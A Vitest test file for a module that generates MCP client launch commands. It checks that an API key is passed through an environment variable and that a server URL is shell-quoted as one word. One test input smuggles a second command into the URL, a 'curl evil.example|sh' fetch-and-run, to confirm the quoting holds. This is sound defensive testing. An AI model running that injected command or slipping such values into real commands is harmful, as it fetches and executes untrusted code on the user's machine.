import { expect, test } from 'vitest'
import { clientConfigs } from './mcp-client-configs.ts'

const entry = { name: 'crm', url: 'https://grantry.example/mcp/mcp_1', key: 'grantry_sk_x' }

test('mcp-remote gets the key by the environment: it runs for hours, and its arguments are for all to read', () => {
  expect(clientConfigs['mcp-remote'].text(entry)).toBe(
    // biome-ignore lint/suspicious/noTemplateCurlyInString: for mcp-remote
    "AUTH_HEADER='Bearer grantry_sk_x' npx -y mcp-remote https://grantry.example/mcp/mcp_1 --header 'Authorization:${AUTH_HEADER}'",
  )
})

test.each(['claude-code', 'mcp-remote', 'inspector'] as const)(
  'an address is one word of the command for %s',
  (client) => {
    const url = 'https://grantry.example/mcp/x;curl evil.example|sh'
    expect(clientConfigs[client].text({ ...entry, url, key: null })).toContain(` '${url}'`)
  },
)
